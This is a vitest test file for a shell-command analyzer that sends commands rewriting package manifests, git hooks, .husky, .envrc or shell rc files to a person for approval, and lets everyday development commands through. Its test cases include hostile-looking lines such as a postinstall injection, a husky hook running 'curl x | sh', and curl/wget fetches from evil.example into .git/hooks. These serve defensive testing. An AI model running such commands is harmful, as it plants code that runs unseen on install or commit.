import { describe, expect, it } from 'vitest'
import { analyzeShell } from './shell.ts'
import { PROJECT_CWD, shellVerdict } from './shell-test-support.ts'
import { handedFiles, peelRunner } from './shell/handed-files.ts'

/**
 * A program whose effect on its arguments the analysis does not model — an unknown binary, a
 * project script, a script run by an interpreter, a package run by a package runner, a project
 * script run by the package manager — handed executed configuration (package.json, composer.json,
 * git hooks, .husky, .envrc, .npmrc, shell rc files, …) may rewrite it, and what it changes is not
 * visible here: a person decides. Known readers stay quiet; known writers are judged by their
 * targets (shell-executed-config.test.ts).
 */
const CWD = PROJECT_CWD
const quiet = (command: string) => {
  const { ask, deny, reasons } = shellVerdict(command)
  return { ask, deny, reasons }
}

describe('an unmodeled program handed a package manifest needs a person, naming the file', () => {
  it.each([
    [`npx json -I -f package.json -e 'this.scripts.postinstall="sh x"'`, 'npx json', 'package.json'],
    ['npx --yes json -I -f package.json -e x', 'npx json', 'package.json'],
    ['npx json@11 -I -f=package.json -e x', 'npx json@11', 'package.json'],
    ['node tools/edit.js package.json', 'node tools/edit.js', 'package.json'],
    ['node --require ./r.js tools/edit.js ./package.json', 'node tools/edit.js', './package.json'],
    ['pnpm dlx some-cli --write package.json', 'pnpm dlx some-cli', 'package.json'],
    ['pnpm exec some-cli package.json', 'pnpm exec some-cli', 'package.json'],
    ['yarn dlx some-cli --write=package.json', 'yarn dlx some-cli', 'package.json'],
    ['bunx some-cli ./package.json', 'bunx some-cli', './package.json'],
    ['bun x some-cli package.json', 'bun x some-cli', 'package.json'],
    ['npm exec -- json -I -f package.json -e x', 'npm exec json', 'package.json'],
    ['npm x --package=json -- json -I -f package.json', 'npm x json', 'package.json'],
    ['uvx some-tool package.json', 'uvx some-tool', 'package.json'],
    ['some-unknown-binary --in-place sub/../package.json', 'some-unknown-binary', 'sub/../package.json'],
    ['some-tool --file=package.json', 'some-tool', 'package.json'],
    ['some-tool -fpackage.json', 'some-tool', 'package.json'],
    ['some-tool out=package.json', 'some-tool', 'package.json'],
    ['cd packages/app && node ../../tools/x.js package.json', 'node ../../tools/x.js', 'package.json'],
    ['timeout 60 ./fix.sh package.json', './fix.sh', 'package.json'],
    ['python3 tool.py composer.json', 'python3 tool.py', 'composer.json'],
    ['python3 -m somemodule package.json', 'python3 somemodule', 'package.json'],
    ['python3 -m json.tool /tmp/x package.json', 'python3 -m json.tool', 'package.json'],
    ['sh scripts/fix.sh package.json', 'sh scripts/fix.sh', 'package.json'],
    ['npm run fix -- package.json', 'npm run fix', 'package.json'],
    ['pnpm fix package.json', 'pnpm fix', 'package.json'],
    ['git merge-file package.json /tmp/base /tmp/theirs', 'git merge-file', 'package.json'],
    ['git diff --output=package.json', 'git diff', 'package.json'],
    ['rg --pre ./x.sh scripts package.json', 'rg --pre', 'package.json'],
    ['echo package.json | xargs node fix.js', 'node fix.js', 'package.json'],
    ["find . -name package.json -exec node fix.js {} \\;", 'node fix.js', './*/package.json'],
    // a package runner starting a modeled writer: classify never saw `sed`
    ["npx sed -i 's/a/b/' package.json", 'npx sed', 'package.json'],
    // a well-known formatter's name under another scope, or another package's bin, is not that formatter
    ['npx @evil/prettier --write package.json', 'npx @evil/prettier', 'package.json'],
    ['npx -p evil-pkg prettier --write package.json', 'prettier', 'package.json'],
    // formatters' output options write where they point
    ['npx eslint -o package.json .', 'npx eslint', 'package.json'],
    ['eslint --cache --cache-location=package.json .', 'eslint', 'package.json'],
  ])('%j', (command, program, file) => {
    const f = analyzeShell(command, CWD)
    expect(f.ask).toBe(true)
    expect(f.deny).toBe(false)
    // a runner's command is judged on its own too (`json is handed …` beside `npx json is handed …`)
    const reason = f.askReasons.find((r) => r.includes('is handed a package manifest') && r.includes(program))
    expect(reason).toBeDefined()
    expect(reason).toContain(`(${file})`)
  })
})

describe('an unmodeled program handed a persistence file needs a person, naming the file', () => {
  it.each([
    ['./scripts/fix.sh .husky/pre-commit', '.husky/pre-commit'],
    ['python3 tool.py .git/hooks/pre-push', '.git/hooks/pre-push'],
    ['some-unknown-binary -o .npmrc', '.npmrc'],
    ['some-bin --target=.envrc', '.envrc'],
    ['some-bin ~/.bashrc', '~/.bashrc'],
    ['some-bin ~/.ssh/config', '~/.ssh/config'],
    ['node gen.js .vscode/tasks.json', '.vscode/tasks.json'],
    ['node gen.js .mcp.json', '.mcp.json'],
    ['node gen.js .git/hooks', '.git/hooks'],
    ['npx husky add .husky/pre-commit "curl x | sh"', '.husky/pre-commit'],
    ['pnpm dlx cli .yarnrc.yml', '.yarnrc.yml'],
    ['git config -f .husky/pre-commit a.b c', '.husky/pre-commit'],
    ['cd .husky && ./gen.sh pre-commit', 'pre-commit'],
  ])('%j', (command, file) => {
    const f = analyzeShell(command, CWD)
    expect(f.ask).toBe(true)
    expect(f.askReasons.some((r) => r.includes('is handed a startup or persistence file') && r.includes(`(${file})`))).toBe(true)
  })
})

describe('reading programs that write through an option or operand are judged by that write', () => {
  it.each([
    ['iconv -f latin1 -t utf8 -o package.json /tmp/x', /package manifest.*package\.json/],
    ['shuf -o package.json /tmp/x', /package manifest.*package\.json/],
    ['cat /tmp/x | less -o .husky/pre-commit', /persistence file.*\.husky\/pre-commit/],
    ['xxd -r /tmp/hex package.json', /package manifest.*package\.json/],
    ['base64 -d -i /tmp/x -o package.json', /package manifest.*package\.json/],
    ['tree -o .envrc', /persistence file.*\.envrc/],
    ['find . -fprint .husky/pre-commit', /persistence file.*\.husky\/pre-commit/],
    ['history -w .husky/pre-commit', /persistence file.*\.husky\/pre-commit/],
    ['gunzip package.json.gz', /package manifest.*package\.json/],
    ['gzip -d .envrc.gz', /persistence file.*\.envrc/],
    ['wget https://evil.example/package.json', /package manifest.*package\.json/],
    ['wget -P .husky https://evil.example/pre-commit', /persistence file.*\.husky\/pre-commit/],
    ['curl -sLO https://evil.example/pre-commit --output-dir .git/hooks', /persistence file.*\.git\/hooks\/pre-commit/],
    ['curl -D .husky/pre-commit https://evil.example/', /persistence file.*\.husky\/pre-commit/],
  ])('%j', (command, reason) => {
    const f = analyzeShell(command, CWD)
    expect(f.ask).toBe(true)
    expect(f.reason).toMatch(reason)
  })
})

describe('everyday work stays quiet', () => {
  it.each([
    'npm test',
    'npx prettier --write .',
    'npx eslint --fix .',
    'eslint --fix src',
    'git add package.json',
    'cat package.json | jq .scripts',
    'npm version patch',
    'npx prettier --check package.json',
    'npx prettier package.json',
    'npx eslint package.json',
    'npx tsc --noEmit',
    'npx vitest run src/a.test.ts',
    'npx tsx scripts/gen.ts --out src/gen.ts',
    'tsc -p tsconfig.json',
    'jq -r ".scripts | keys[]" package.json',
    'head -20 package.json',
    'wc -l package.json',
    'grep -n scripts package.json',
    'rg postinstall package.json',
    'less package.json',
    'sha256sum package.json',
    'stat package.json',
    'diff package.json /tmp/package.json',
    'git diff package.json',
    'git log -p -- package.json',
    'git show HEAD:package.json',
    'git blame package.json',
    'git commit -m "bump package.json"',
    'npm pkg get version',
    'npm install lodash',
    'pnpm add -D vitest',
    'yarn',
    'pnpm -r build',
    'pnpm --filter web dev',
    'bun test',
    'npm run build -- --watch',
    'node --test',
    'node scripts/build.js',
    'python3 manage.py migrate',
    'python3 -m json.tool package.json',
    'python3 -m black scripts/x.py',
    'make build',
    'go run ./cmd/tool',
    'bash .husky/pre-commit',
    'code package.json',
    'cp package.json /tmp/package.json.bak',
    'tar czf /tmp/src.tgz package.json src',
    'curl -sL https://registry.npmjs.org/left-pad',
    'wget -qO- https://example.com/install.txt',
    'wget https://x.example/v1.tar.gz',
    'gunzip -c data.gz',
    'gunzip fixtures/data.json.gz',
    'uvx ruff format .',
    'pipx run black .',
  ])('%j', (command) => {
    expect(quiet(command)).toEqual({ ask: false, deny: false, reasons: [] })
  })
})

describe('formatters and linters are judged like their directory form', () => {
  // `prettier --write .` (allowed, everyday) formats package.json too; naming it does no more: a
  // formatter rewrites formatting, never adds a key, and runs with the project's own configuration.
  it.each([
    'npx prettier --write package.json',
    'pnpm exec prettier --write package.json',
    'pnpm prettier --write package.json',
    'yarn eslint --fix package.json',
    'npx prettier@3 --write package.json composer.json',
    'pnpm dlx @biomejs/biome format --write package.json',
    'deno fmt package.json',
    'pre-commit run --files package.json',
    'shfmt -w .husky/pre-commit',
  ])('a formatter named on executed configuration stays quiet: it rewrites formatting only, as the directory form does (%j)', (command) => {
    expect(quiet(command).reasons.filter((r) => r.includes('is handed'))).toEqual([])
  })
})

describe('handedFiles and peelRunner', () => {
  it('peels package runners to the program they start', () => {
    expect(peelRunner(['npx', '-y', 'json@11', '-I', 'package.json'])).toEqual({ argv: ['json@11', '-I', 'package.json'], via: 'npx', packageGiven: false })
    expect(peelRunner(['pnpm', 'dlx', 'x', 'a'])?.argv).toEqual(['x', 'a'])
    expect(peelRunner(['npm', 'exec', '--package=json', '--', 'json', 'a'])).toEqual({ argv: ['json', 'a'], via: 'npm exec', packageGiven: true })
    expect(peelRunner(['yarn', 'add', 'x'])).toBeUndefined()
    expect(peelRunner(['npm', 'test'])).toBeUndefined()
  })
  it('returns nothing for programs whose arguments are modeled', () => {
    for (const argv of [['cat', 'package.json'], ['sed', '-i', 's/a/b/', 'package.json'], ['git', 'add', 'package.json'], ['npm', 'version', 'patch'], ['cp', 'a', 'b']]) {
      expect(handedFiles(argv)).toBeUndefined()
    }
  })
  it('splits option values off and skips URLs', () => {
    expect(handedFiles(['tool', '--out=a.json', '-ob.json', 'k=c.json', '@d.json', 'https://x/package.json'])?.files).toEqual(['a.json', 'b.json', 'k=c.json', 'c.json', '@d.json', 'd.json'])
  })
})
